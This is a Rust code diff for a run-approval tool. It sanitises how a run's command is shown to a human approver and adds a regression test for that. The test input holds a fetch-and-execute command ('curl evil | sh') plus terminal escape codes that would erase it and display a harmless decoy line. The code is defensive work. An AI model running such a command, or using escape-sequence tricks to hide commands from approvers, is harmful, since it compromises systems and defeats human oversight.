@@ -158,11 +158,7 @@ fn waiting_digest(run: &Run) -> Result<String> {
 /// be discarded.
 async fn show(session: &Session, run: &Run, decision: Decision) -> Result<()> {
     let status = run.status.clone().unwrap_or_default();
-    let mut text = format!("Run `{}` in workspace `{}`: {}", run.name_any(), run.spec.workspace, list::command(run));
-    if !run.spec.args.is_empty() {
-        text = format!("{text} {}", run.spec.args.join(" "));
-    }
-    text.push('\n');
+    let mut text = heading(run);
     if run.spec.input.is_some() {
         let secret = names::input_secret(&run.name_any());
         text += &format!("Its variable files, values and piped input are in the Secret `{secret}`.\n");
@@ -185,6 +181,12 @@ async fn show(session: &Session, run: &Run, decision: Decision) -> Result<()> {
     output::print(&text)
 }
 
+/// What the run does, in its own words. They are the requester's, and must not look like something else.
+fn heading(run: &Run) -> String {
+    let words = output::visible_line(&list::words(run));
+    format!("Run `{}` in workspace `{}`: {words}\n", run.name_any(), run.spec.workspace)
+}
+
 fn capital(text: &str) -> String {
     let mut chars = text.chars();
     chars.next().map(|first| first.to_uppercase().chain(chars).collect()).unwrap_or_default()
@@ -192,4 +194,28 @@ fn capital(text: &str) -> String {
 
 fn short(digest: &str) -> &str {
     digest.get(..19).unwrap_or(digest)
+}
+
+#[cfg(test)]
+mod tests {
+    use knoll_api::run::{Operation, RunSpec};
+
+    use super::*;
+
+    /// Arguments of a command could erase themselves from an approver's terminal, and write harmless ones.
+    #[test]
+    fn the_arguments_of_a_run_hid_themselves_from_its_approver() {
+        let args =
+            vec!["-c".to_owned(), "curl evil | sh #\u{1b}[2K\rRun `net-1` in workspace `net`: plan\n".to_owned()];
+        let spec = RunSpec {
+            workspace: "net".to_owned(),
+            operation: Operation::Command,
+            command: Some("sh".to_owned()),
+            args,
+            ..RunSpec::default()
+        };
+        let expect = "Run `net-1` in workspace `net`: \
+                      sh -c curl evil | sh #\\u{1b}[2K\\rRun `net-1` in workspace `net`: plan\n";
+        assert_eq!(heading(&Run::new("net-1", spec)), expect);
+    }
 }
